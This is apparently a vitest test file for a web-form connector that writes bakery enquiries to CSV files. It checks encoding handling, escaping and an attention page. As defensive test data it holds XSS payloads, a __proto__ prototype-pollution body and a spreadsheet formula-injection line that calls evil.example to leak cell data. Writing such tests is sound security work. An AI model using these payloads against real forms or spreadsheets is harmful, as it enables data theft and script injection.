import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { storableText } from '#connectors/storable-text.ts';
import { anyText } from '../support/any-text.ts';
import { openFormHouse, type FormHouse } from '../support/form-house.ts';
import { until } from '../support/until.ts';
import { wordsOf } from '../support/words-of.ts';

let bakery: FormHouse;
beforeAll(async () => {
	bakery = await openFormHouse();
});
afterAll(() => bakery.house.stop());

const FORM = 'application/x-www-form-urlencoded';
const post = async (body: BodyInit, type?: string): Promise<void> => {
	const headers: Record<string, string> = type === undefined ? {} : { 'content-type': type };
	expect((await fetch(bakery.form, { method: 'POST', body, headers })).status).toBe(202);
};
const row = (file: 'enquiries.csv' | 'plain.csv', name: string) =>
	until(`a row of ${name}`, async () => (await bakery.rows(file)).find((cells) => cells.Name === name));
const attention = async () => wordsOf(await bakery.kari.page('/attention'));

describe('texts go through unchanged', () => {
	const TEXTS = {
		emoji: '🥐👩‍👩‍👧‍👦 twelve, please 🇳🇴',
		'right-to-left': 'שתים עשרה לחמניות בבקשה، اثنتا عشرة كعكة',
		'both directions in one line': 'for משה (12) \u202e and Kari',
		'letters of many countries': 'Łukasz Ærøskøbing ß ñ 日本語 Việt',
		HTML: '<script>alert("1")</script><img src=x onerror=alert(1)> & <b>bread</b>',
		lines: 'one\ntwo\n\nfour; five, "six"',
		JSON: '{"a":[1,null]}',
		'a template': '{name} ${name} {{name}} %s',
		spaces: '  between  and around\t'
	};
	test.each(Object.entries(TEXTS))('%s, sent in three ways', async (what, message) => {
		const multipart = new FormData();
		multipart.set('name', `${what} (multipart)`);
		multipart.set('message', message);
		await post(multipart);
		await post(new URLSearchParams({ name: `${what} (urlencoded)`, message }));
		await post(JSON.stringify({ name: `${what} (JSON)`, message }), 'application/json');
		for (const way of ['multipart', 'urlencoded', 'JSON']) {
			expect((await row('plain.csv', `${what} (${way})`)).Message).toBe(message);
		}
	});

	test('any text at all', async () => {
		const texts = fc.sample(anyText, 40);
		for (const [number, message] of texts.entries()) {
			await post(JSON.stringify({ name: `any ${number}`, message }), 'application/json');
		}
		for (const [number, message] of texts.entries()) {
			expect((await row('plain.csv', `any ${number}`)).Message).toBe(storableText(message));
		}
	});

	test('what a spreadsheet would run as a formula is made harmless where a spreadsheet opens it', async () => {
		const formula = '=HYPERLINK("http://evil.example?"&A1,"click")';
		await post(new URLSearchParams({ name: 'formula', message: formula, phone: '+47 99 88 77 66' }));
		expect((await row('plain.csv', 'formula')).Message).toBe(formula);
		const safe = await row('enquiries.csv', 'formula');
		expect([safe.Message, safe.Phone]).toEqual([`'${formula}`, "'+47 99 88 77 66"]);
	});

	test('300 fields come whole', async () => {
		const fields = Array.from({ length: 298 }, (_, place) => [`wish${place}`, `cake ${place}`]);
		await post(new URLSearchParams([['name', 'many wishes'], ['email', 'kari@example.com'], ...fields]));
		const { wish1, wish150, wish297 } = await row('plain.csv', 'many wishes');
		expect([wish1, wish150, wish297]).toEqual(['cake 1', 'cake 150', 'cake 297']);
	});

	test('names that mean something to JavaScript are only names', async () => {
		const body = '{"name":"pollution","__proto__":{"message":"from afar"},"constructor":"x","toString":"y"}';
		await post(body, 'application/json');
		expect((await row('plain.csv', 'pollution')).Message).toBe('');
		expect((await fetch(`${bakery.house.address}/healthz`)).status).toBe(200);
	});
});

describe('letters in the wrong encoding lose nothing but themselves', () => {
	test('Latin-1 that says so is read, and Latin-1 that does not keeps its place', async () => {
		const body = Buffer.from('name=told&message=J\xf8rgen', 'latin1');
		await post(body, `${FORM}; charset=iso-8859-1`);
		await post(Buffer.from('name=not+told&message=J\xf8rgen', 'latin1'), FORM);
		expect((await row('plain.csv', 'told')).Message).toBe('Jørgen');
		expect((await row('plain.csv', 'not told')).Message).toBe('J\uFFFDrgen');
	});

	test('broken UTF-8, half characters and zero bytes', async () => {
		await post('name=broken&message=%C3%28+%00+%F0%9F+end', FORM);
		expect((await row('plain.csv', 'broken')).Message).toMatch(/^\uFFFD\( \uFFFD \uFFFD+ end$/);
	});
});

describe('what cannot be read stands in needs attention, with what came', () => {
	test.each([
		[
			'malformed JSON',
			'{"name":"cut off',
			'application/json',
			'{"name":"cut off',
			'does not give its fields by their names'
		],
		[
			'JSON that is a list',
			'["no","names"]',
			'application/json',
			'["no","names"]',
			'does not give its fields by their names'
		],
		[
			'an unknown type',
			'BEGIN:VCARD Kari',
			'text/vcard',
			'BEGIN:VCARD Kari',
			'not sent in the way that a web form sends'
		],
		['no type', Buffer.from('typeless Kari'), undefined, 'typeless Kari', 'not sent in the way that a web form sends'],
		['multipart without marks', 'unmarked Kari', 'multipart/form-data', 'unmarked Kari', 'lacks the marks']
	])('%s', async (_, body, type, came, why) => {
		await post(body, type);
		const words = await until(came, async () => {
			const said = await attention();
			return said.includes(came) ? said : null;
		});
		expect(words).toContain(why);
	});

	test('an empty entry, and one whose fields nobody knows', async () => {
		await post('', FORM);
		await post('nobody=knows+this+field', FORM);
		await until('an empty entry', async () => (await attention()).includes('an entry without a single field'));
		await until('an unknown field', async () => (await attention()).includes('knows this field'));
	});

	test('and the health page shows what came without running any of it', async () => {
		const [, connection = ''] = /href="(\/connections\/[0-9a-z]+)"/.exec(await bakery.kari.page('/attention')) ?? [];
		await post(new URLSearchParams({ name: '<img src=x onerror=alert(2)>', message: '"><script>alert(3)</script>' }));
		const page = await until('the newest entry', async () => {
			const html = await bakery.kari.page(connection);
			return wordsOf(html).includes('alert(3)') ? html : null;
		});
		expect(page).not.toMatch(/<img src=x|<script>alert/);
		expect(wordsOf(page)).toContain('"><script>alert(3)</script>');
	});
});
